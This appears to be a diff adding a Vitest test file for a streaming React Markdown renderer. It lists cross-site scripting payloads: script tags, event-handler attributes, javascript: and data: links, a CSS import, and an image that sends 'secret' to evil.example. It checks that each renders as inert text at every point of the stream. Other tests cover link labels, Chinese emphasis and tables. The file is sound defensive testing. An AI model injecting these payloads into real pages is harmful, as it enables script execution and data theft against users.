@@ -1,0 +1,47 @@
+import { render, screen } from '@testing-library/react'
+import { expect, test } from 'vitest'
+
+import { Markdown } from './markdown'
+
+const HOSTILE = [
+  '<script>window.hit = 1</script>',
+  '<img src=x onerror="window.hit=1">',
+  '[click](javascript:window.hit=1)',
+  '[click](JaVaScRiPt:window.hit=1)',
+  '[click](data:text/html,<script>window.hit=1</script>)',
+  '![pixel](https://evil.example/p.png?q=secret)',
+  '<iframe src="https://evil.example"></iframe>',
+  '<a href="https://evil.example" onclick="window.hit=1">x</a>',
+  '<svg onload="window.hit=1"><style>@import "https://evil.example"</style></svg>',
+  '[x]: https://evil.example/x.css\n![x]',
+  '<https://evil.example> ![a](//evil.example/b.png)',
+  '$\\href{javascript:window.hit=1}{x}$',
+]
+
+test.each(HOSTILE)('%s is shown as words, at every cut of the stream', (payload) => {
+  const { container, rerender } = render(<Markdown text="" isGrowing />)
+  for (let cut = 1; cut <= payload.length; cut += 1) {
+    rerender(<Markdown text={payload.slice(0, cut)} isGrowing={cut < payload.length} />)
+    expect(container.querySelectorAll('script, img, iframe, svg, style, object, embed, link, form, [onerror], [onclick], [onload]')).toHaveLength(0)
+    for (const link of container.querySelectorAll('a')) {
+      expect(link.protocol).toMatch(/^(https?|mailto):$/)
+      expect(link.rel).toContain('noopener')
+    }
+  }
+})
+
+test('a link says where it leads', () => {
+  render(<Markdown text="[your bank](https://evil.example/login)" />)
+  expect(screen.getByText('(evil.example)')).toBeTruthy()
+})
+
+test('Chinese emphasis next to Chinese punctuation is emphasis', () => {
+  const { container } = render(<Markdown text="这是**重点。**请看" />)
+  expect(container.querySelector('strong')?.textContent).toBe('重点。')
+})
+
+test('tables and lists become tables and lists', () => {
+  const { container } = render(<Markdown text={'| a | b |\n|---|---|\n| 1 | 2 |\n\n1. one\n2. two'} />)
+  expect(container.querySelectorAll('td')).toHaveLength(2)
+  expect(container.querySelectorAll('ol > li')).toHaveLength(2)
+})
